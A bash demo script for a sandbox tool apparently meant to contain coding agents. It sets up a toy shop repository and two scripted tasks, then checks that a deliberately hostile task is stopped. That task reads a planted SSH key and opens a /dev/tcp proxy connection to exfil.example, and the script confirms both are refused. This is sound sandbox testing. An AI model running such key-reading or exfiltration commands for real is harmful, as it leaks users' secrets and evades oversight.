#!/usr/bin/env bash
# The main job on a small repository of its own: two tasks at once, each in a box. Called by ./task demo.
# demo.sh TASK [--yes]; ends with 0 only if both tasks are in review and both attempts to break out were refused.
set -euo pipefail

taskbox() { "$program" "$@"; }
title() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }
fail() { printf 'demo: %s\nIts files are in %s.\n' "$*" "$demo" >&2; exit 1; }

program=$1
bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then bold=$'\e[1m' plain=$'\e[0m'; fi

demo=$(mktemp -d /tmp/taskbox-demo.XXXXXX)
export TASKBOX_HOME=$demo/home
trap 'taskbox daemon stop >/dev/null 2>&1 || true' EXIT

# A user with a secret, as on any developer's machine.
mkdir -p "$demo/user/.ssh" "$demo/shop"
export HOME=$demo/user
echo 'not a real key' >"$HOME/.ssh/id_ed25519"
chmod 600 "$HOME/.ssh/id_ed25519"

cd "$demo/shop"
git init -q -b main
git config user.name "Demo Person"
git config user.email demo@localhost
printf '# Shop\n\nSells things.\n' >README.md
printf 'price() { echo 10; }\n' >shop.sh
git add -A && git commit -qm 'Start the shop'
printf 'test "$(. ./shop.sh; price)" = 10\n' >test.sh
git add -A && git commit -qm 'Test the price'

title "A project, and two tasks for the scripted agent"
taskbox project add .
taskbox add "Add a discount" -a scripted -F - <<'STEPS'
say The shop needs a discount, so I add one and test it.
append shop.sh discount() { echo 3; }
append test.sh test "$(. ./shop.sh; discount)" = 3
run sh test.sh && echo the tests pass
commit Add a discount
say Done.
STEPS
taskbox add "Look around first" -a scripted -F - <<STEPS
say Before I work I look for keys, and phone home.
run cat ~/.ssh/id_ed25519 $HOME/.ssh/id_ed25519
run bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 && printf "CONNECT exfil.example:443 HTTP/1.1\r\nHost: exfil.example:443\r\n\r\n" >&3 && cat <&3'
write NOTES.md The box showed me this repository and nothing else.
commit Write down what I saw
STEPS

title "Both run at once, each in a box of its own"
taskbox run 1 --wait >"$demo/follow-1.log" 2>&1 &
first=$!
taskbox run 2 --wait >"$demo/follow-2.log" 2>&1 || fail "task 2 failed; see follow-2.log"
wait "$first" || fail "task 1 failed; see follow-1.log"

title "The board"
taskbox list
for id in 1 2; do
    state=$(taskbox show "$id" --json | tr ',{' '\n\n' | sed -n 's/^"state":"\([a-z]*\)".*/\1/p' | head -n 1)
    [ "$state" = review ] || fail "task $id is $state and not in review"
done

title "What task 1 made (task diff 1)"
taskbox diff 1

title "What task 2 was refused"
logs=$(taskbox logs 2)
printf '%s\n' "$logs" | grep -m 1 'No such file' | sed 's/.*\(cat: .*\)/  its key: \1/' || fail "the key was not refused"
taskbox logs 2 --json | grep -q 'not a real key' && fail "the box read the key"
denied=$(printf '%s\n' "$logs" | grep -m 1 'exfil.example.*refused') || fail "the host was not refused"
printf '  the host: %s\n' "${denied##*egress.denied[[:space:]]}"

title "What to type next"
cat <<NEXT
  export TASKBOX_HOME=$TASKBOX_HOME; cd $demo/shop
  task logs 2                  what it tried, and by which rule it was refused
  task merge 1                 take its work
  task add "What you want done" -a claude && task start 3
  task sandbox -- bash -c 'ls ~; env'      any command in a box
Here task is $program
NEXT
